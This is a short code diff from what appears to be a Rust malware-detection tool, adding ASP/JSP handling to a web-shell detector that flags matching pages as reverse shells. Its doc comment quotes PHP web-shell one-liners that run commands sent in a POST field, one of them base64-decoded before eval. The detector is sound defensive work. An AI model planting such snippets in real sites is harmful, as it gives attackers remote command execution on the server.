@@ -177,6 +177,13 @@ impl<'a> Analysis<'a> {
     /// A page that runs what its visitors send: `<?php system($_POST["x"]); ?>`, wherever it lies; also where that is
     /// taken out of an encoding first: `eval(base64_decode($_POST["x"]))`.
     pub(in crate::facts) fn web_shell(&mut self, target: Target<'a>, text: &str, span: Span, call: u32) {
+        let pages = || self.know.places().list("pages-that-run-what-is-sent");
+        if text.contains("<%") {
+            let text = text.to_ascii_lowercase();
+            if pages().any(|sign| text.contains(sign)) {
+                self.effect(Effect { marks: &["reverse-shell"], ..Effect::new(Kind::Tunnel, target, call, span) });
+            }
+        }
         if !text.contains("<?") {
             return;
         }
